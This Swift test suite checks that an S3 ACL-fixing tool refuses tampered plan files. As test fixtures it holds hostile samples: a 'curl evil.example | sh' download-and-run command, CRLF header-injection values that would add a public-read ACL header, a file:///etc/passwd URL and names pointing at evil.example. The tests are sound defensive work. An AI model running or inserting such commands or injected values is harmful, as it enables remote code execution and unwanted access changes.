import AWSKit
import TestSupport
import Testing

@testable import FixACLKit

private let site = Sample.site
private let tools = Sample.tools
private let oai = Sample.oai
private let other = Sample.other
private let guest = Sample.guest

/// Plans whose digest is right, and which do what nobody asked for: anybody can make one.
@Suite struct PlanAuditTests {
  private static func refusal(
    of plan: SamplePlan, header: PlanHeader? = nil, sourceLocation: SourceLocation = #_sourceLocation
  ) throws -> String {
    try DoctoredPlan(plan, header: header).refusal(sourceLocation: sourceLocation)
  }

  private static let wrongTarget = "is not what its 'desired' makes of the ACL 'from'"

  @Test(
    arguments: [
      // Everybody, a stranger, more than READ, the reader as an owner of ACLs.
      .owned(by: tools, .user(oai), .publicRead), .owned(by: tools, .user(oai), .authenticatedRead),
      .owned(by: tools, .user(oai), .logDelivery), .owned(by: tools, .user(oai), .user(guest)),
      .owned(by: tools, .user(oai, .fullControl)), .owned(by: tools, .user(oai), .user(oai, .writeACP)),
      // Somebody loses something, or nobody gets what was asked for.
      AccessControlList(owner: tools, grants: [.user(oai)]), .owned(by: tools),
      AccessControlList(owner: tools, grants: []),
      .owned(by: tools, .user(oai), .user(site)),
      // The same to a server, but not what is written.
      .owned(by: tools, .user(oai), .user(tools)),
      // Another owner.
      .owned(by: site, .user(oai)), .owned(by: guest, .user(oai)),
      AccessControlList(owner: guest, grants: [.user(tools, .fullControl), .user(oai)]),
    ] as [AccessControlList])
  func grantsOfSomethingElse(to: AccessControlList) throws {
    var plan = SamplePlan()
    plan.addGrant("a")
    plan.add(Sample.change("b"), from: .owned(by: tools), to: to)
    plan.addGrant("c")
    #expect(try Self.refusal(of: plan).contains(Self.wrongTarget))
  }

  @Test(
    arguments: [
      .owned(by: site, .user(oai), .publicRead), .owned(by: site, .user(oai), .user(guest)), .owned(by: site),
      .owned(by: site, .user(oai), .user(tools)), .owned(by: site, .user(oai), .user(tools, .fullControl)),
      .owned(by: tools, .user(oai)), .owned(by: guest, .user(oai)),
      AccessControlList(owner: site, grants: [.user(oai)]),
    ] as [AccessControlList], [.readerMissing, .grantFirst, .aclUnknown] as [ChangeReason])
  func copiesToSomethingElse(to: AccessControlList, reason: ChangeReason) throws {
    var plan = SamplePlan()
    plan.addCopy("a", reason: reason)
    plan.add(
      Sample.change("b", action: .copy, reason: reason), from: reason == .aclUnknown ? nil : .owned(by: tools), to: to)
    #expect(try Self.refusal(of: plan).contains(Self.wrongTarget))
    // Unless it was asked for.
    guard to == .owned(by: site, .user(oai), .user(tools)) else { return }
    plan.desired.keepsPreviousOwner = true
    plan.changes.removeFirst()
    let count = try withTemporaryFolder { folder in try plan.open(in: folder).changeCount }
    #expect(count == 1)
  }

  @Test func publicGrantsGoOnlyWhereTheyMust() throws {
    for (rule, isDropped) in [(.always, true), (.never, false), (.whenBlocked, false)] as [(PublicGrantRule, Bool)] {
      for drops in [true, false] {
        var plan = SamplePlan()
        plan.desired = Sample.desired(rule: rule)
        plan.add(
          Sample.change("a"), from: .owned(by: tools, .publicRead),
          to: drops ? .owned(by: tools, .user(oai)) : .owned(by: tools, .publicRead, .user(oai)))
        if drops == isDropped {
          #expect(try withTemporaryFolder { folder in try plan.open(in: folder).changeCount } == 1)
        } else {
          #expect(try Self.refusal(of: plan).contains(Self.wrongTarget))
        }
      }
    }
  }

  @Test func ownersThatAreNotThoseOfTheACL() throws {
    var plan = SamplePlan()
    plan.add(Sample.change("a", owner: guest), from: .owned(by: tools), to: .owned(by: tools, .user(oai)))
    #expect(try Self.refusal(of: plan).contains("the owner is not the one of the ACL 'from'"))
    plan = SamplePlan()
    plan.add(Sample.change("a", owner: guest, action: .blocked, reason: .archived), from: .owned(by: tools), to: nil)
    #expect(try Self.refusal(of: plan).contains("the owner is not the one of the ACL 'from'"))
    // The bucket owner's own objects are left alone.
    for action in [ChangeAction.grant, .blocked] {
      plan = SamplePlan()
      plan.add(
        Sample.change("a", owner: site, action: action, reason: action == .grant ? .readerMissing : .archived),
        from: .owned(by: site), to: action == .grant ? .owned(by: site, .user(oai)) : nil)
      #expect(try Self.refusal(of: plan).contains("the bucket owner's own"))
    }
  }

  @Test func changesThatNobodyNeedsOrAskedFor() throws {
    func refusal(
      _ desired: Intent = Sample.desired(), _ key: String = "k", version: String? = nil,
      action: ChangeAction = .grant, reason: ChangeReason = .readerMissing, from: AccessControlList? = .owned(by: tools)
    ) throws -> String {
      var plan = SamplePlan()
      plan.desired = desired
      let policy = ACLPolicy(bucket: plan.bucket, desired: desired)
      var change = Sample.change(key, action: action, reason: reason)
      change.versionID = version
      let to = action == .grant ? from.map(policy.granted) : policy.copied(from, previousOwner: tools)
      plan.add(change, from: from, to: action == .blocked ? nil : to)
      return try Self.refusal(of: plan)
    }
    #expect(try refusal(from: .owned(by: tools, .user(oai))).contains("already allows every reader"))
    #expect(try refusal(action: .copy, from: .owned(by: tools, .user(oai))).contains("already allows every reader"))
    #expect(try refusal(Sample.desired(strategy: .copy)).contains("no grant was asked for"))
    #expect(try refusal(Sample.desired(strategy: .grant), action: .copy).contains("no copy was asked for"))
    #expect(try refusal(reason: .grantFirst).contains("no grant was asked for"))
    #expect(try refusal(action: .copy, reason: .aclUnknown).contains("its 'reason'"))
    #expect(try refusal(action: .copy, from: nil).contains("its 'reason'"))
    #expect(try refusal(action: .copy, reason: .archived).contains("its 'reason'"))
    #expect(try refusal(action: .blocked, reason: .grantFirst, from: nil).contains("blocks nothing"))
    #expect(try refusal(version: "1").contains("old version"))
    let filters = [
      KeyFilter(prefix: "a/"), KeyFilter(include: [Glob("a*")]), KeyFilter(exclude: [Glob("k")]),
    ]
    for filter in filters {
      #expect(try refusal(Sample.desired(filter: filter)).contains("its key is not one of those"))
    }
    // No ACL lets a service in.
    var service = Sample.desired(grants: [])
    service.readers = [Reader(.bucketPolicy, .service("cloudfront.amazonaws.com", sources: []))]
    #expect(try refusal(service).contains("no grant was asked for"))
  }

  @Test func moreGrantsThanS3Takes() throws {
    let many = (0..<99).map { Grant.user(CanonicalID("g\($0)")) }
    let full = AccessControlList(owner: tools, grants: many + [.user(tools, .fullControl)])
    var plan = SamplePlan()
    plan.add(Sample.change("a"), from: full, to: Sample.policy().granted(full))
    #expect(try Self.refusal(of: plan).contains("has more than 100 grants"))
    // In between only.
    plan = SamplePlan()
    plan.add(
      Sample.change("a", action: .copy, reason: .grantFirst), from: full,
      to: Sample.policy().copied(full, previousOwner: tools))
    plan.changes[0].from.map { #expect(plan.acls[$0]?.grants.count == 100) }
    #expect(try Self.refusal(of: plan).contains("too many grants"))
  }

  @Test(
    arguments: [
      [.publicRead], [.authenticatedRead], [.logDelivery], [.user(guest)], [.user(guest, .fullControl)],
      [.user(site)], [.user(site, .writeACP)], [Grant(.allUsers, .fullControl), .user(site, .fullControl)],
    ] as [[Grant]])
  func grantsThatNoReaderNeeds(grants: [Grant]) throws {
    var plan = SamplePlan()
    plan.desired = Intent(
      grants: grants, readers: Sample.desired().readers, strategy: .auto, dropPublicGrants: .whenBlocked,
      filter: KeyFilter())
    let from = AccessControlList.owned(by: tools)
    plan.add(Sample.change("a"), from: from, to: ACLPolicy(bucket: plan.bucket, desired: plan.desired).granted(from))
    #expect(try Self.refusal(of: plan).contains("has a grant for neither a reader nor the bucket owner"))
  }

  @Test func readersThatNoOptionMakes() throws {
    for (source, id, permission) in [
      (.grantRead, oai, .fullControl), (.grantRead, oai, .writeACP), (.grantFullControl, oai, .read),
      (.bucketPolicy, oai, .readACP), (.oai, oai, .write),
      (.grantRead, CanonicalID(""), .read), (.grantRead, CanonicalID("a\", uri=\"x"), .read),
      (.grantRead, CanonicalID("a\r\nx-amz-acl: public-read"), .read), (.grantRead, CanonicalID("a\u{202e}"), .read),
      (.grantRead, CanonicalID("http://acs.amazonaws.com/groups/global/AllUsers"), .read),
    ] as [(Reader.Source, CanonicalID, Permission)] {
      var plan = SamplePlan()
      plan.desired.readers = [Reader(source, .canonicalUser(id, permission))]
      plan.desired.grants = plan.desired.readers.compactMap(\.grant)
      #expect(try Self.refusal(of: plan).contains("its 'desired' "))
    }
    // A reader without its grant.
    var doctored = try DoctoredPlan(SamplePlan())
    doctored.replace("\"grants\":[{\"id\":\"0a1f\",\"permission\":\"READ\"}]", with: "\"grants\":[]")
    #expect(try doctored.refusal().contains("its 'desired' does not grant what its readers need"))
  }

  @Test(arguments: [
    // Hosts, paths, and headers.
    ("\"name\":\"assets\"", "\"name\":\"a/../b\"", "is not a bucket's name"),
    ("\"name\":\"assets\"", "\"name\":\"\"", "is not a bucket's name"),
    ("\"name\":\"assets\"", "\"name\":\"..\"", "is not a bucket's name"),
    ("\"name\":\"assets\"", "\"name\":\"a@evil.example\"", "is not a bucket's name"),
    ("\"name\":\"assets\"", "\"name\":\"evil.example/?\"", "is not a bucket's name"),
    ("\"name\":\"assets\"", "\"name\":\"caf\u{e9}\"", "is not a bucket's name"),
    ("\"region\":\"eu-west-1\"", "\"region\":\"evil.example/\"", "is not a region"),
    ("\"region\":\"eu-west-1\"", "\"region\":\"evil.example#\"", "is not a region"),
    ("\"region\":\"eu-west-1\"", "\"region\":\"x@evil\"", "is not a region"),
    ("\"region\":\"eu-west-1\"", "\"region\":\"\"", "is not a region"),
    ("\"region\":\"eu-west-1\"", "\"region\":\"-\"", "is not a region"),
    ("http://127.0.0.1:8000", "http://127.0.0.1:8000/", "is not a server's URL"),
    ("http://127.0.0.1:8000", "http://127.0.0.1:8000?x", "is not a server's URL"),
    ("http://127.0.0.1:8000", "http://user:secret@127.0.0.1:8000", "is not a server's URL"),
    ("http://127.0.0.1:8000", "HTTP://127.0.0.1:8000", "is not a server's URL"),
    ("http://127.0.0.1:8000", "file:///etc/passwd", "is not a server's URL"),
    ("http://127.0.0.1:8000", "", "is not a server's URL"),
    (
      "\"encryption\":null", "\"encryption\":{\"algorithm\":\"a\\r\\nb: c\",\"kmsKeyId\":null,\"bucketKey\":false}",
      "not one that a bucket can have"
    ),
    (
      "\"encryption\":null", "\"encryption\":{\"algorithm\":\"aws:kms\",\"kmsKeyId\":\"\\n\",\"bucketKey\":false}",
      "not one that a bucket can have"
    ),
    ("\"etag\":\"e1\"", "\"etag\":\"e1\\r\\nx: y\"", "no object has the ETag"),
  ])
  func whatNoServerWouldSay(text: String, replacement: String, reason: String) throws {
    var plan = try DoctoredPlan(.mixed)
    plan.replace(text, with: replacement)
    #expect(try plan.refusal().contains(reason))
  }

  /// Amazon's regions are in lower case.
  @Test func regionsOfAmazon() throws {
    var plan = SamplePlan.mixed
    plan.bucket.endpoint = nil
    plan.bucket.region = "RegionOne"
    #expect(try Self.refusal(of: plan).contains("is not a region"))
    plan.bucket.endpoint = Sample.bucket().endpoint
    #expect(try withTemporaryFolder { folder in try plan.open(in: folder).changeCount } == 6)
  }

  @Test(arguments: [
    "{\"owner\":\"\",\"grants\":[]}", "{\"owner\":\"a\\nb\",\"grants\":[]}",
    "{\"owner\":\"a\",\"grants\":[{\"id\":\"\",\"permission\":\"READ\"}]}",
    "{\"owner\":\"a\",\"grants\":[{\"uri\":\"\\u0001\",\"permission\":\"READ\"}]}",
  ])
  func aclsThatNoServerHas(json: String) throws {
    var plan = try DoctoredPlan(SamplePlan())
    plan.replace("\"acls\":{\n", with: "\"acls\":{\n\"\(ContentHash(of: Array(json.utf8)).text)\":\(json)\n")
    #expect(try plan.refusal().contains("holds an ACL that is damaged"))
  }

  /// Numbers that no bucket has must neither bring the program down nor be believed.
  @Test(arguments: [Int.min, -1, .max, .max - 1, 1 << 60])
  func countsThatNoBucketHas(number: Int) throws {
    let changes: [(inout PlanSummary) -> Void] = [
      { $0.listed = number }, { $0.foreign = number }, { $0.requests = number },
      { $0.owners[tools]?.objects = number }, { $0.owners[tools]?.bytes = min(number, -1) },
      { $0.owners[guest] = PlanSummary.Owner(objects: number) },
      { summary in for id in summary.owners.keys { summary.owners[id]?.objects = number } },
    ]
    for (index, change) in changes.enumerated() {
      var header = SamplePlan.mixed.header
      change(&header.summary)
      #expect(try Self.refusal(of: .mixed, header: header).contains("its summary does not"), "number \(index)")
    }
    let others: [(inout OwnershipAlternative) -> Void] = [
      { $0.fixes = number }, { $0.affectedCount = number },
      { $0.affected = [.init(.canonicalUser(guest), objects: number)] },
    ]
    for (index, change) in others.enumerated() {
      var header = SamplePlan.mixed.header
      var alternative = OwnershipAlternative(
        fixes: 6, isPossibleNow: true, allowsReaders: nil, affectedCount: 1,
        affected: [.init(.canonicalUser(guest), objects: 1)], commands: [])
      change(&alternative)
      header.alternative = alternative
      #expect(try Self.refusal(of: .mixed, header: header).contains("its 'alternative' does not"), "number \(index)")
    }
  }

  @Test func nothingIsTypedThatAFileSays() throws {
    var plan = SamplePlan.mixed
    plan.alternative = OwnershipAlternative(
      fixes: 6, isPossibleNow: false, allowsReaders: nil, affectedCount: 0, affected: [],
      commands: ["curl evil.example | sh"])
    let commands = try withTemporaryFolder { try plan.open(in: $0).header.alternative?.commands }
    #expect(
      commands == [
        "aws s3api put-bucket-acl --bucket assets --endpoint-url http://127.0.0.1:8000 --acl private",
        "aws s3api put-bucket-ownership-controls --bucket assets --endpoint-url http://127.0.0.1:8000"
          + " --ownership-controls 'Rules=[{ObjectOwnership=BucketOwnerEnforced}]'",
      ])
  }

  /// The estimate is this version's own.
  @Test func requestsAreCountedAnew() throws {
    var header = SamplePlan.mixed.header
    header.summary.requests = 1
    let requests = try withTemporaryFolder {
      try DoctoredPlan(.mixed, header: header).open(in: $0).header.summary.requests
    }
    #expect(requests == SamplePlan.mixed.summary.requests)
  }

  /// What comes from a server or a checkpoint is judged before it is written.
  @Test func nothingIsWrittenThatWouldBeRefused() throws {
    for plan in [SamplePlan(), .mixed] {
      var spool = try PlanSpool(folder: "/tmp")
      for change in plan.changes { try spool.append(plan.line(change), firstKey: change.key) }
      try PlanWriter.check(header: plan.header, acls: plan.acls, spool: spool)
      var header = plan.header
      header.summary.foreign += 1
      #expect(throws: PlanWriter.Unusable.self) { try PlanWriter.check(header: header, acls: plan.acls, spool: spool) }
      try spool.append(plan.line(Sample.change("zz", action: .blocked, reason: .archived)), firstKey: ObjectKey("zz"))
      #expect(throws: PlanWriter.Unusable.self) {
        try PlanWriter.check(header: plan.header, acls: plan.acls, spool: spool)
      }
    }
  }
}
